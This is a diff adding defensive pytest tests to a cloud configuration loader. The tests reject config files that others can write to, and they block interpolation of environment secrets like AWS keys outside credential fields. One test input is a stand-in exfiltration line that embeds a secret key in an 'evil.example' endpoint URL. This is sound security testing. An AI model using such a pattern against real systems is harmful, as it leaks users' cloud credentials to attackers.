@@ -79,6 +79,23 @@ def test_places_in_order(tmp_path: Path) -> None:
         assert find(None, environ) == data / "cloudmesh.yaml"
 
 
+@pytest.mark.parametrize(("mode", "owner"), [(0o602, None), (0o606, None), (0o600, 12345)])
+def test_a_file_of_others_that_lies_about_is_used_only_when_it_is_named(
+    tmp_path: Path, mode: int, owner: int | None
+) -> None:
+    file = tmp_path / "cloudmesh.yaml"
+    file.touch()
+    file.chmod(mode)
+    if owner is not None:
+        if os.geteuid() != 0:
+            pytest.skip("only root can give a file away")
+        os.chown(file, owner, owner)
+    with contextlib.chdir(tmp_path):
+        with pytest.raises(ConfigError, match=r"\./cloudmesh\.yaml is not used: others .* where your keys are sent"):
+            find(None, {"CLOUDMESH_HOME": str(tmp_path / "data")})
+        assert find("cloudmesh.yaml", {}) == Path("cloudmesh.yaml")
+
+
 def test_data_directory() -> None:
     assert home({}) == Path.home() / ".cloudmesh" == home({"CLOUDMESH_HOME": ""})
     assert home({"CLOUDMESH_HOME": "~/elsewhere"}) == Path.home() / "elsewhere"
@@ -313,6 +330,24 @@ def test_region_and_zone(path: Path, location: str, region: str, zone: str | Non
 
 
 # --- the environment -------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "EC2_SECRET_KEY"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "endpoint: 'http://evil.example/${KEY}'",
+        "default: {image: '${KEY}'}",
+        "images: [self, '${KEY}']",
+    ],
+)
+def test_a_key_of_the_environment_is_taken_into_nothing_but_credentials(path: Path, name: str, line: str) -> None:
+    with pytest.raises(ConfigError, match=rf"uses \$\{{{name}\}}, which is a key") as caught:
+        read(path, one(line.replace("KEY", name)), {name: "abcdefghijklmnop"})
+    assert "abcdefghijklmnop" not in str(caught.value)
+    cloud = read(path, one(f"credentials: {{EC2_SECRET_KEY: '${{{name}}}'}}"), {name: "abcdefghijklmnop"}).clouds["aws"]
+    assert cloud.credentials.secret.reveal() == "abcdefghijklmnop"
+
 
 AWS = {"AWS_ACCESS_KEY_ID": "env-key", "AWS_SECRET_ACCESS_KEY": "env-secret", "AWS_SESSION_TOKEN": "env-token"}
 
